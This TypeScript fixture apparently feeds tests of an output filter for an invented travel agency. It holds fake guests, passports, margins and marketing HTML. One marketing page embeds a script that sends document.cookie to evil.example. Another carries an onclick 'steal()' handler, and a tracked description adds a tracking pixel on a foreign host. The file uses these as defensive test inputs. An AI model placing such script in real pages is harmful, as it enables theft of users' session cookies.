// The synthetic agency's invented data. Every stay, guest, passport, phone number and price is made up; the
// answers carry far more than any declaration names (the agency's margins, guests' passports, raw HTML, partner
// links), at several depths, on purpose.

/** The agency's own image host, declared as an origin of the photo capability. */
export const AGENCY_IMAGE_ORIGIN = 'https://img.agency.example';
/** The agency's own web site, declared as an origin of the page capability. */
export const AGENCY_SITE_ORIGIN = 'https://www.agency.example';
/** A partner host no declaration names: photos and links there are withheld. */
export const PARTNER_ORIGIN = 'https://cdn.partner-photos.example';

/** A guest as the agency's database holds it: personal data no capability declares. */
export interface Guest {
  name: string;
  passport: string;
  phone: string;
  email: string;
}

const GUEST_NAMES = ['Ana Pop', 'Rita Sample', 'Maria Demo', 'Ion Exemplu', 'Paul Inventat', 'Nina Fictiva'];

/** A deterministic invented guest (`seed` picks the name and the numbers). */
export function guest(seed: number): Guest {
  const name = GUEST_NAMES[seed % GUEST_NAMES.length] ?? 'Ana Pop';
  const digits = String(100_000 + ((seed * 7919) % 900_000));
  return {
    name,
    passport: `DEMO-PASS-${digits}`,
    phone: `+00 000 000 ${digits.slice(-3)}`,
    email: `${name.toLowerCase().replace(/ /g, '.')}@guest.example`,
  };
}

/** The rate sheet the agency sends with every price: never declared, never forwarded. */
export function rateSheet(price: number): { net: number; margin: number; commission: number } {
  const net = Math.round(price * 62) / 100;
  return { net, margin: Math.round((price - net) * 100) / 100, commission: Math.round(price * 12) / 100 };
}

/** One stay in the agency's catalogue. */
export interface Stay {
  id: string;
  name: string;
  city: string;
  pricePerNight: number;
  rating: number;
  petPolicy: string;
  acceptsPets: boolean;
  breakfast: boolean;
}

/** The catalogue, in the agency's own order (nothing ranks it). */
export const STAYS: readonly Stay[] = [
  {
    id: 'ws-1001',
    name: 'Casa Alfama',
    city: 'Lisbon',
    pricePerNight: 118,
    rating: 4.6,
    petPolicy: 'Cats and small dogs welcome, EUR 10 per night',
    acceptsPets: true,
    breakfast: true,
  },
  {
    id: 'ws-1003',
    name: 'Miradouro Court',
    city: 'Lisbon',
    pricePerNight: 139,
    rating: 4.8,
    petPolicy: 'No pets',
    acceptsPets: false,
    breakfast: true,
  },
  {
    id: 'ws-1002',
    name: 'Pensão Azul',
    city: 'Lisbon',
    pricePerNight: 74,
    rating: 4.1,
    petPolicy: 'Pets welcome, free of charge',
    acceptsPets: true,
    breakfast: false,
  },
  {
    id: 'ws-1004',
    name: 'Rio Tejo Lofts',
    city: 'Lisbon',
    pricePerNight: 96,
    rating: 4.3,
    petPolicy: 'No pets',
    acceptsPets: false,
    breakfast: false,
  },
];

/** The stay with this id, if the agency has one. */
export function stayById(id: string): Stay | undefined {
  return STAYS.find((stay) => stay.id === id);
}

/** The raw HTML description the agency attaches to a stay: a tracking pixel and a link on a foreign host. */
export function trackedDescription(stay: Stay): string {
  return (
    `<p><b>${stay.name}</b> is an invented property.</p>` +
    `<img src="https://deals.unknown-host.example/pixel/${stay.id}.gif" width="1" height="1">` +
    `<a href="https://deals.unknown-host.example/offer?ref=${stay.id}">See today's offer</a>`
  );
}

/**
 * The agency's marketing page of a stay, meant to be shown as HTML. Casa Alfama's is clean (its image and link are
 * on the agency's own hosts); the others each break one rule of a checked HTML output.
 */
export function marketingPage(stay: Stay): string {
  switch (stay.id) {
    case 'ws-1001':
      return (
        `<article><h2>${stay.name}</h2><p>Quiet rooms above the old town.</p>` +
        `<img src="${AGENCY_IMAGE_ORIGIN}/ws-1001/hero.jpg" alt="The street at dusk">` +
        `<a href="${AGENCY_SITE_ORIGIN}/hotels/casa-alfama">Book on our site</a></article>`
      );
    case 'ws-1002':
      return `<article><h2>${stay.name}</h2><script>document.location='https://evil.example/?c='+document.cookie</script></article>`;
    case 'ws-1003':
      return `<article><h2>${stay.name}</h2><img src="${PARTNER_ORIGIN}/ws-1003/hero.jpg" alt="A view"></article>`;
    default:
      return `<article><h2 onclick="steal()">${stay.name}</h2></article>`;
  }
}

/** A room of a stay, with the guests who slept there and each amenity's history: undeclared at every depth. */
export function roomsOf(stay: Stay) {
  const kinds = [
    { suffix: 'dbl', name: 'Double Room', sleeps: 2, factor: 1 },
    { suffix: 'fam', name: 'Family Room', sleeps: 4, factor: 1.45 },
  ];
  return kinds.map((kind, k) => {
    const price = Math.round(stay.pricePerNight * kind.factor * 10) / 10;
    return {
      id: `${stay.id}-${kind.suffix}`,
      name: kind.name,
      sleeps: kind.sleeps,
      pricePerNight: price,
      ...rateSheet(price),
      guests: [guest(k * 3 + 1)],
      amenities: [
        { name: 'Breakfast', fee: 9 },
        { name: 'Airport transfer', fee: 25 },
      ].map((amenity, a) => ({
        ...amenity,
        host: { name: 'Amenity host (invented)', phone: '+00 000 000 111' },
        lastUsedBy: guest(k * 5 + a + 2),
        history: [{ guests: [guest(k * 7 + a + 3)] }],
      })),
    };
  });
}
